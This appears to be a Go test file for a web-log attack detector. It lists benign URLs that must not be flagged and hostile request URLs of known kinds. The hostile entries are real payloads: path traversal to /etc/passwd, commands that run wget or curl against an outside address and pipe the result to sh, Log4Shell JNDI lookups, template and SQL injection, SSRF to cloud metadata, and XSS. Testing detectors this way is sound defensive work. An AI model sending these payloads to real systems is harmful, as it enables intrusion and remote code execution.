package builtin

import (
	"fmt"
	"testing"

	"deadbox/rules"
	"deadbox/timeline"

	"github.com/google/go-cmp/cmp"
)

// cleanURLs are targets as honest software makes them: full of signs that
// attacks use too.
var cleanURLs = []string{
	"/", "/index.php", "/favicon.ico", "/robots.txt", "/.well-known/acme-challenge/FMuukC2JOJ5HKmLBujjE_BkDo", "*", "/server-status?auto",
	// WordPress, Drupal, Joomla, Typo3, Magento.
	"/wp-admin/load-styles.php?c=0&dir=ltr&load%5Bchunk_0%5D=dashicons,admin-bar,common,forms&ver=6.4.3",
	"/wp-admin/admin-ajax.php?action=heartbeat&_nonce=ab12", "/wp-json/wp/v2/posts?_fields=id,title&per_page=5&orderby=date&order=desc",
	"/wp-cron.php?doing_wp_cron=1709647200.1234567890123", "/?s=union+jack+select", "/?p=123&preview=true", "/wp-content/plugins/a/b.css?ver=1.2.3",
	"/wp-admin/customize.php?return=%2Fwp-admin%2Fthemes.php", "/wp-admin/post.php?post=12&action=edit", "/wp-login.php?redirect_to=https%3A%2F%2Fexample.org%2Fwp-admin%2F&reauth=1",
	"/sites/default/files/styles/large/public/2024-03/a%20(1).jpg?itok=Xy", "/views/ajax?view_name=x&view_display_id=page_1&_wrapper_format=drupal_ajax&ajax_page_state%5Btheme%5D=olivero",
	"/index.php?option=com_content&view=article&id=12:a-title&catid=3:news&Itemid=101", "/index.php?id=12&tx_news_pi1%5Bnews%5D=3&cHash=abcdef",
	"/catalogsearch/result/?q=men%27s+shoes&price=10-20&product_list_order=name", "/customer/section/load/?sections=cart%2Cmessages&force_new_section_timestamp=false",
	// Tracking, advertising, login.
	"/?utm_source=news&utm_medium=email&utm_campaign=spring%20sale%20%26%20more&gclid=EAIaIQobChMI", "/?fbclid=IwAR0-x_y", "/matomo.php?action_name=A%20%3E%20B&idsite=1&rec=1&r=123&h=14&m=5&s=9&url=https%3A%2F%2Fexample.org%2F%3Fa%3Db&_id=ab&_cvar=%7B%221%22%3A%5B%22x%22%2C%22y%22%5D%7D&res=1920x1080",
	"/oauth/authorize?response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.org%2Fcb%3Fx%3D1&scope=openid%20profile%20email&state=eyJhIjoiYiJ9.x-y_z&code_challenge_method=S256",
	"/saml/acs?SAMLRequest=fZJNT%2BMwEIbv%2FAr%2Fg&RelayState=%2Fhome", "/login?next=%2Fadmin%2F%3Fq%3D%27a%27", "/logout?return_to=//example.org/",
	// Searches, with quotes, ampersands, operators, other languages.
	"/search?q=O%27Reilly+and+Sons", "/search?q=%22red+or+blue%22", "/search?q=Tom+%26+Jerry+%26+friends", "/search?q=AT%26T", "/search?q=R%26B+music;+soul", "/search?q=5%25+off+or+more", "/search?q=C%2B%2B+std%3A%3Avector%3Cint%3E+sort",
	"/search?q=what+is+%24HOME+in+bash", "/search?q=price+%3C+100+and+size+%3D+10", "/search?q=rock+%27n%27+roll+%231", "/search?q=how+to+drop+a+table+in+mysql", "/search?q=select+from+where", "/search?q=union+select+committee", "/search?q=insert+into+slot;+update+drivers",
	"/search?q=it%27s+--+really+--+fine", "/search?q=%D1%82%D0%B5%D1%81%D1%82+%E6%97%A5%E6%9C%AC", "/suche?begriff=M%C3%BCller+%2F+S%C3%B6hne&ort=K%C3%B6ln", "/search?q=a%7Cb%7Cc", "/search?q=%28a+OR+b%29+AND+NOT+c", "/search?q=sleep+%285+hours%29", "/search?q=head+%26+tail", "/search?q=cat+and+mouse;+dog",
	"/search?q=ls+-la+%7C+grep+foo+meaning", "/search?q=%60code%60+in+markdown", "/search?q=xp_cmdshell", "/search?q=1+or+2", "/search?q=2024-03-05+or+later", "/search?q=%2Fetc%2Fpasswd", "/search?q=alert+fatigue",
	"/search?name=D%27Angelo+%26+Co.&city=L%27Aquila", "/people?name=O%27Neil%2C+Anne--Marie", "/find?title=%22Who%27s+Afraid+of+Virginia+Woolf%3F%22+--+Albee", "/q?term=having+fun+where+we+are+like+this",
	// Application interfaces.
	"/api/v1/items?filter[price][gte]=10&filter[price][lte]=20&sort=-created&page[size]=20&include=author,comments", "/odata/Products?$filter=Price%20gt%205%20and%20Name%20eq%20%27Milk%27&$orderby=Name%20desc&$top=10",
	"/odata/Products?$filter=substringof(%27milk%27,%20Name)%20eq%20true&$select=ID,Name", "/graphql?query=%7Buser(id:1)%7Bname,email,posts(first:10)%7Btitle%7D%7D%7D", "/graphql?query=query+Q(%24id:ID!)%7Bnode(id:%24id)%7Bid%7D%7D&variables=%7B%22id%22:%22a%22%7D",
	"/solr/core/select?q=title:foo%20AND%20id:%5B1%20TO%2010%5D&fq=type:(a%20OR%20b)&wt=json&rows=10&sort=score%20desc", "/_search?q=user:kim%20AND%20message:%22out%20of%20memory%22", "/api/search?jql=project%20%3D%20ABC%20AND%20status%20in%20(Open,%20%22In%20Progress%22)%20ORDER%20BY%20created%20DESC",
	"/app/kibana#/discover?_g=(filters:!(),refreshInterval:(pause:!t,value:0),time:(from:now-15m,to:now))", "/app/discover?_g=(filters:!(),time:(from:now-15m,to:now))&_a=(columns:!(_source),query:(language:kuery,query:'host.name:%20web%20and%20status%20%3E=%20500'))",
	"/query?db=telegraf&q=SELECT%20mean(%22usage_idle%22)%20FROM%20%22cpu%22%20WHERE%20time%20%3E%20now()%20-%201h%20GROUP%20BY%20time(10s)%20fill(null)&epoch=ms", "/api/v1/query_range?query=sum(rate(http_requests_total%7Bcode%3D~%225..%22%7D%5B5m%5D))%20by%20(job)&start=1&end=2&step=15",
	"/render?target=alias(summarize(stats.timers.x.count,%20%271hour%27),%20%27n%27)&from=-24h&format=json", "/cgi-bin/zabbix/charts.php?period=3600&stime=20240305&action=showgraph", "/munin-cgi/munin-cgi-graph/example.org/web/cpu-day.png?&size_x=800",
	"/jsonp?callback=jQuery1102_1709647200&_=1709647201", "/feed?since=2024-03-05T14:00:00%2B01:00", "/geo?bbox=-1.5,52.1,-1.4,52.2&srs=EPSG:4326", "/wms?SERVICE=WMS&REQUEST=GetMap&LAYERS=a,b&STYLES=&CRS=EPSG:3857&BBOX=1,2,3,4&CQL_FILTER=pop%20%3E%201000",
	"/img?u=https://cdn.example.org/a.jpg&w=100&h=100", "/proxy?url=https%3A%2F%2Fexample.org%2Ffeed.xml", "/thumb.php?src=../../uploads/2024/a.jpg&w=120", "/share?url=https://example.org/page.php?id=3&title=A%20%22b%22", "/go?to=http://example.org/", "/embed?file=http://example.org/a.mp4",
	"/login?url=http://example.org/index.php", "/data?x=data:image/png;base64,iVBORw0KGgo=", "/w/api.php?action=query&prop=info|ids|revisions&titles=A|B&rvprop=ids|timestamp|user|comment", "/w/index.php?title=Special:Search&search=%22a+b%22&fulltext=1&ns0=1",
	// Repositories, lists, documentation.
	"/gitweb/?p=project.git;a=blob;f=src/cat.c;hb=HEAD", "/cgit/linux/tree/tools/testing/selftests/bpf?h=v6.1&id=abc", "/project/-/blob/main/etc/config.yml", "/viewvc/trunk/a.c?r1=12&r2=13&view=diff", "/browser/trunk/bin/sh.c?rev=12", "/man/cat.1", "/cgi-bin/man.cgi?topic=ls&section=1", "/doc;type=pdf",
	"/app;jsessionid=0A1B2C3D?cmd=list", "/x.do;v=1.2?method=view&id=3", "/pipermail/dev/2024-March/000123.html", "/cgi-bin/mailman/subscribe/dev", "/cgi-bin/awstats.pl?config=www.example.org&framename=mainright&output=urldetail", "/cgi-bin/webscr?cmd=_s-xclick&hosted_button_id=ABC",
	"/phpmyadmin/sql.php?db=shop&table=users&sql_query=SELECT+%2A+FROM+%60users%60&pos=0", "/phpmyadmin/index.php?route=/sql&server=1&db=shop&table=users&pos=0", "/adminer.php?username=root&db=shop&select=users&columns%5B0%5D%5Bfun%5D=&where%5B0%5D%5Bcol%5D=id&where%5B0%5D%5Bop%5D=%3D&where%5B0%5D%5Bval%5D=1",
	"/roundcube/?_task=mail&_action=list&_mbox=INBOX&_remote=1&_unlock=loading1709", "/nextcloud/remote.php/dav/files/anna/Documents/a%20%28copy%29%20%26%20b.txt", "/nextcloud/index.php/apps/files/?dir=/Documents/etc&fileid=12", "/owncloud/index.php/core/preview.png?file=%2FPhotos%2Fx.jpg&x=32&y=32&c=ab",
	"/forum/viewtopic.php?f=2&t=12&p=34&hilit=system#p34", "/forum/search.php?keywords=php+exec%28%29+function&terms=all&author=", "/phpbb/viewtopic.php?t=12&highlight=linux+kernel", "/moodle/mod/quiz/attempt.php?attempt=12&cmid=3&page=2", "/mediawiki/index.php/C++",
	"/shop?price=%5B10,20%5D&color=red%7Cblue&size=%3E%3D38", "/list?sort=price;asc&view=grid", "/a?x=1;y=2;id=3;cat=4", "/a?b=1&amp;c=2&amp;id=3", "/cal?from=2024-03-01&to=2024-03-31&tz=Europe/Berlin", "/p?phone=%2B49+(0)30+123456&ext=7", "/calc?e=2*(3%2B4)", "/tpl?name={{user.name}}&x=%7B%7Bitem%7D%7D",
	"/i18n/%7Blang%7D/messages.json", "/static/js/app.%5Bhash%5D.js", "/report?d=10/03/2024&user=DOMAIN%5Canna", "/win?path=C:%5CUsers%5Canna%5Cfile.txt", "/run?id=12&shell=true&exec=false", "/cmd?command=status", "/c?cmd=play&id=3", "/x?run=daily&system=linux", "/q?c=id&lang=id",
	"/css/../img/logo.png", "/a/./b", "/download.php?file=reports/2024/q1.pdf", "/index.php?page=about", "/index.php?page=../about", "/view?doc=../../help/index.html", "/fonts/a.woff2?#iefix", "/a%2Fb%2Fc", "/a//b///c", "/~anna/", "/...more", "/v1..2", "/files/a..b.txt", "/x?range=1...5",
	"/cgi-bin/printenv.pl?test", "/time?t=12:30;45", "/rss?title=Breaking:+%22A%22+--+B", "/x?v=%00", "/sub?email=a%2Bb@example.org&name=%3C3", "/x?msg=I+%3C3+you", "/x?expr=a%3Cb%3Ec", "/x?html=%26lt%3Bb%26gt%3B", "/math?f=exp(x)%2Bfloor(y)", "/d3?transform=rotate(45)%20scale(2)", "/x?t=concat(a,b)",
}

func TestCleanURLs(t *testing.T) {
	var m requestMatcher
	for _, u := range cleanURLs {
		if got := m.judge("GET", u, "Mozilla/5.0 (X11; Linux x86_64)", "https://www.example.org/a?b=c"); got.attack != noAttack {
			t.Errorf("%s is taken for %s: %s", u, attackNames[got.attack], got.what)
		}
	}
	for _, agent := range []string{
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.5.0", "Mozilla/5.0 (Linux; Android 14; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/450.0;]",
		"WordPress/6.4.3; https://example.org", "Apache/2.4.57 (Debian) (internal dummy connection)", "check_http/v2.3.3 (monitoring-plugins 2.3.3)", "-", "",
	} {
		if got := m.judge("GET", "/", agent, ""); got.attack != noAttack {
			t.Errorf("the user agent %q is taken for %s", agent, attackNames[got.attack])
		}
	}
}

// hostileURLs are attacks as they are seen in logs, of many kinds and
// writings.
var hostileURLs = []struct {
	url  string
	want attack
}{
	{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", traversal},
	{"/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", commandInjection},
	{"/icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd", traversal},
	{"/..%c0%af..%c0%af..%c0%afetc/passwd", traversal},
	{"/static//////../../../../etc/passwd", traversal},
	{"/download?f=....//....//....//etc/shadow", traversal},
	{"/download?f=..%5c..%5c..%5cboot.ini", traversal},
	{"/download?f=%252e%252e%252f%252e%252e%252fwp-config.php", traversal},
	{"/manager/..;/..;/etc/passwd", traversal},
	{"/x?file=file:///etc/passwd", forgery},
	{"/x?file=/proc/self/environ", traversal},
	{"/x.php?f=php://filter/convert.base64-encode/resource=index.php", inclusion},
	{"/x.php?page=data://text/plain;base64,PD9waHA=", inclusion},
	{"/x.php?page=expect://id", inclusion},
	{"/?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", inclusion},
	{"/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", inclusion},
	{"/x?host=127.0.0.1%0aid", commandInjection},
	{"/x?host=127.0.0.1|whoami", commandInjection},
	{"/x?host=a%26%26curl+http://198.51.100.7/x|sh", commandInjection},
	{"/x?host=$(wget${IFS}198.51.100.7/x)", commandInjection},
	{"/x?host=;cat%20/etc/hostname;", commandInjection},
	{"/x?a=%60sleep%205%60", commandInjection},
	{"/x?a='||/usr/bin/id||'", commandInjection},
	{"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.7/m.sh", webShell},
	{"/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws", commandInjection},
	{"/board.cgi?cmd=cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/a", commandInjection},
	{"/x.php?1=system('id');", phpCode},
	{"/viewtopic.php?t=1&highlight=%2527%252esystem(chr(105)%252echr(100))%252e%2527", phpCode},
	{"/x?a=${@print(md5(1))}", template},
	{"/x?a={${phpinfo()}}", phpCode},
	{"/x?a=%3C?php%20phpinfo();?%3E", phpCode},
	{"/x?a=eval(base64_decode('YQ=='))", phpCode},
	{"/?x=${jndi:ldap://198.51.100.7/a}", template},
	{"/?x=$%7B$%7Benv:NaN:-j%7Dndi$%7Benv:NaN:-:%7D$%7Benv:NaN:-l%7Ddap://198.51.100.7/a%7D", template},
	{"/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/", template},
	{"/a.action?name=%25%7B(%23_memberAccess['allowStaticMethodAccess']=true)%7D", template},
	{"/x?name={{7*7}}", template},
	{"/x?name={{''.__class__.__mro__[1].__subclasses__()}}", template},
	{"/x?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", template},
	{"/x?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D", template},
	{"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", knownHole},
	{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", knownHole},
	{"/wls-wsat/CoordinatorPortType", knownHole},
	{"/u/1.php?cmd=uname+-a", webShell},
	{"/u/1.php?cmd=cat+/etc/hosts", webShell},
	{"/c99.php", webShell},
	{"/x?id=1+and+1=1", sqlInjection},
	{"/x?id=1'+or+'1'='1", sqlInjection},
	{"/x?id=1%27%20OR%201=1--+-", sqlInjection},
	{"/x?user=admin'--", sqlInjection},
	{"/x?id=-1+union+select+1,2,concat(user,0x3a,password)+from+users", sqlInjection},
	{"/x?id=1/**/UNION/**/ALL/**/SELECT/**/NULL,NULL", sqlInjection},
	{"/x?id=1+/*!50000UNION*/+/*!50000SELECT*/+1,2", sqlInjection},
	{"/x?id=1;WAITFOR+DELAY+'0:0:5'--", sqlInjection},
	{"/x?id=1+AND+SLEEP(5)", sqlInjection},
	{"/x?id=1'+AND+(SELECT+1+FROM+(SELECT(SLEEP(5)))a)--+", sqlInjection},
	{"/x?id=1+and+ascii(substr((select+database()),1,1))>64", sqlInjection},
	{"/x?id=1+order+by+10--", sqlInjection},
	{"/x?id=1;drop+table+users", sqlInjection},
	{"/x?id=1+procedure+analyse(extractvalue(rand(),concat(0x3a,version())),1)", sqlInjection},
	{"/x?login[$ne]=a&password[$ne]=a", sqlInjection},
	{"/x?url=http://169.254.169.254/latest/meta-data/", forgery},
	{"/x?url=gopher://127.0.0.1:6379/_x", forgery},
	{"/x?q=%3Cimg+src=x+onerror=alert(1)%3E", crossSite},
	{"/x?q=%22%3E%3Csvg/onload=alert(1)%3E", crossSite},
	{"/x?q=javascript:alert(document.cookie)", crossSite},
}

func TestHostileURLs(t *testing.T) {
	var m requestMatcher
	for _, c := range hostileURLs {
		if got := m.judge("GET", c.url, "", ""); got.attack != c.want {
			t.Errorf("%s: %q, want %q (%s)", c.url, attackNames[got.attack], attackNames[c.want], got.what)
		}
	}
}

func TestAnswered(t *testing.T) {
	for status, want := range map[string]answer{"200": served, "206": served, "302": redirected, "301": refused, "404": refused, "403": refused, "500": crashed, "503": refused, "": unknownAnswer, "abc": unknownAnswer, "99": unknownAnswer, "304": redirected} {
		if got := answered(status); got != want {
			t.Errorf("answered(%q) = %d, want %d", status, got, want)
		}
	}
}

func TestPercentDecode(t *testing.T) {
	for in, want := range map[string]string{
		"a%20b": "a b", "%2527": "'", "%25252e": ".", "%u0041": "A", "\\x22x": "\"x", "%c0%ae%c0%ae/": "../", "%": "%", "%zz": "%zz", "%4": "%4", "%%32%65": ".", "a\\xzz": "a\\xzz", "%c0%af": "/",
	} {
		if got, _ := percentDecode(in, false); got != want {
			t.Errorf("percentDecode(%q) = %q, want %q", in, got, want)
		}
	}
	if got, n := percentDecode("a+b%2Bc", true); got != "a b+c" || n != 1 {
		t.Errorf("with plus: %q, %d layers", got, n)
	}
}

func TestFoldCharacters(t *testing.T) {
	for in, want := range map[string]string{
		"system(chr(99).chr(100))": "system('cd')", "char(0x41)||CHAR(66)": "'AB'", "mychr(65)": "mychr(65)", "chr(999)": "chr(999)", "chr(65": "chr(65", "chr(65).'x'": "'A'.'x'", "no": "no",
	} {
		if got := foldCharacters(in); got != want {
			t.Errorf("foldCharacters(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestResolveLookups(t *testing.T) {
	for in, want := range map[string]string{
		"${${lower:j}ndi:ldap://x}": "${jndi:ldap://x}", "${${::-j}${::-n}di:x}": "${jndi:x}", "}${lower:a}": "}a", "${jndi:x}": "${jndi:x}", "${": "${", "}}}}": "}}}}",
	} {
		if got := resolveLookups(in); got != want {
			t.Errorf("resolveLookups(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestCrowds checks that the noise of the Internet makes few findings, and
// that what stands out of it keeps its own.
func TestCrowds(t *testing.T) {
	var records []timeline.Record
	for i := range 500 {
		r := aRequest(fmt.Sprintf("192.0.2.%d", i%250), "GET", "/", 200, "user_agent", "${jndi:ldap://198.51.100.7/a}")
		r.Evidence.Line = i + 1
		records = append(records, r, aRequest(fmt.Sprintf("203.0.113.%d", i%200), "GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404))
	}
	records = append(records, aRequest("198.51.100.9", "GET", "/x.action", 200, "user_agent", "${jndi:ldap://198.51.100.7/a}"),
		aRequest("198.51.100.9", "GET", "/", 404, "user_agent", "${jndi:ldap://198.51.100.7/a}"))
	fs := run([]*rules.Rule{webExploitRequest}, rules.Env{}, records)
	var got []string
	for _, f := range fs {
		got = append(got, fmt.Sprintf("%s %s %d: %s", f.Severity, f.Address, f.Count, f.Summary))
	}
	want := []string{
		"high 198.51.100.9 1: 198.51.100.9 sent 1 request with injection of an expression, answered 200 (and 1 more that were refused); the first of the gravest: GET /x.action, the user agent ${jndi:ldap://198.51.100.7/a}",
		"low  500: 500 requests with exploit of a known hole from 200 addresses, all refused; the first: GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php, the path /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php, PHPUnit's eval-stdin.php runs the PHP it is sent (CVE-2017-9841)",
		"low  500: 500 requests with injection of an expression from 250 addresses, answered 200 (500); the first of the gravest: GET /, the user agent ${jndi:ldap://198.51.100.7/a}",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("findings (-want +got):\n%s", d)
	}
}

func BenchmarkRequests(b *testing.B) {
	c := webExploitRequest.New(nil)
	var rs []timeline.Record
	for _, u := range cleanURLs {
		rs = append(rs, aRequest("192.0.2.7", "GET", u, 200))
	}
	b.ReportAllocs()
	for i := 0; b.Loop(); i++ {
		c.Record(&rs[i%len(rs)])
	}
}
